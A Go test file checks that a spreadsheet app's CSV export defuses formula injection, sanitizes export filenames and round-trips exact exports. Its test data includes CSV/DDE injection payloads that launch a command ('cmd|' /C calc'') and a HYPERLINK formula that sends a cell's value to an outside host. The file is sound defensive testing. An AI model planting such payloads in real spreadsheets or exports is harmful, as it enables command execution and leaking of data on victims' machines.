package imports

import (
	"context"
	"strings"
	"testing"

	"github.com/scratchpad/scratchpad/internal/apperr"
	"github.com/scratchpad/scratchpad/internal/values"
	"github.com/scratchpad/scratchpad/internal/workbooks"
)

func TestNeutralizeFormula(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"a=1", "a=1"},
		{" =1+1", " =1+1"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://x.example/?"&A1)`, `'=HYPERLINK("http://x.example/?"&A1)`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"+1 555 0100", "'+1 555 0100"},
		// Plain numbers are what a spreadsheet reads as numbers: data.
		{"-2", "-2"},
		{"-2.50", "-2.50"},
		{"+1", "+1"},
		{"-.5", "-.5"},
		{"-1e5", "-1e5"},
		{"-1e5+1", "'-1e5+1"},
	}
	for _, tt := range tests {
		if got := NeutralizeFormula(tt.in); got != tt.want {
			t.Errorf("NeutralizeFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestExportFilename(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, want string }{
		{"Products", "Products.csv"},
		{"sales.csv", "sales.csv"},
		{"sales.CSV", "sales.csv"},
		{"sales.csv.csv", "sales.csv"},
		{"sales .csv", "sales.csv"},
		{".csv", "table.csv"},
		{"", "table.csv"},
		{"a/b\\c\"d\x7fe", "a_b_c_d_e.csv"},
		{"Café (2024)", "Café (2024).csv"},
		{strings.Repeat("a", 300), strings.Repeat("a", 96) + ".csv"},
		{strings.Repeat("é", 100), strings.Repeat("é", 48) + ".csv"},
	}
	for _, tt := range tests {
		if got := ExportFilename(tt.name); got != tt.want {
			t.Errorf("ExportFilename(%q) = %q, want %q", tt.name, got, tt.want)
		}
		if got := ExportFilename(tt.name); len(got) > maxFilenameBytes {
			t.Errorf("ExportFilename(%q) is %d bytes", tt.name, len(got))
		}
	}
}

// TestExportValues checks that an export neutralizes formula-like cells and
// column names by default, keeps a number column's negative numbers as
// numbers, and writes everything as stored with ExportExact, which reads
// back through import-as-suggestions as no change at all.
func TestExportValues(t *testing.T) {
	t.Parallel()
	f := MustFixture(t, Options{})
	ctx := context.Background()
	table, err := f.wb.CreateTable(ctx, f.owner, f.wbID, workbooks.TableInput{Name: "Formulas", Columns: []workbooks.ColumnInput{
		{Name: "key", Type: values.Text},
		{Name: "=note", Type: values.Text},
		{Name: "amount", Type: values.Number},
		{Name: "kind", Type: values.Select, Options: []string{"@team", "plain"}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	for i, note := range []string{"=1+1", "-2+3+cmd|' /C calc'!A0", "-2"} {
		fields := map[string]any{"key": []string{"a", "b", "c"}[i], "=note": note, "amount": -2.5, "kind": "@team"}
		if _, err := f.wb.CreateRecord(ctx, f.owner, f.wbID, table.ID, fields); err != nil {
			t.Fatal(err)
		}
	}
	safe := f.exportValues(t, table.ID, workbooks.RecordQuery{}, "")
	wantSafe := "key,'=note,amount,kind\n" +
		"a,'=1+1,-2.5,'@team\n" +
		"b,'-2+3+cmd|' /C calc'!A0,-2.5,'@team\n" +
		"c,-2,-2.5,'@team\n"
	if safe != wantSafe {
		t.Errorf("safe export:\n%s\nwant:\n%s", safe, wantSafe)
	}
	exact := f.exportValues(t, table.ID, workbooks.RecordQuery{}, ExportExact)
	wantExact := "key,=note,amount,kind\n" +
		"a,=1+1,-2.5,@team\n" +
		"b,-2+3+cmd|' /C calc'!A0,-2.5,@team\n" +
		"c,-2,-2.5,@team\n"
	if exact != wantExact {
		t.Errorf("exact export:\n%s\nwant:\n%s", exact, wantExact)
	}
	rep, err := f.svc.ImportSuggestions(ctx, f.owner, f.wbID, table.ID, strings.NewReader(exact), "key", false)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Matched != 3 || rep.Cells != 0 || len(rep.Problems) != 0 {
		t.Errorf("exact export imported back as suggestions: %+v, want 3 matched and nothing to suggest", rep)
	}
	if _, err := f.svc.PrepareExport(ctx, f.owner, f.wbID, table.ID, workbooks.RecordQuery{}, "raw"); !apperr.Is(err, apperr.Invalid) {
		t.Errorf("values raw: %v, want Invalid", err)
	}
}
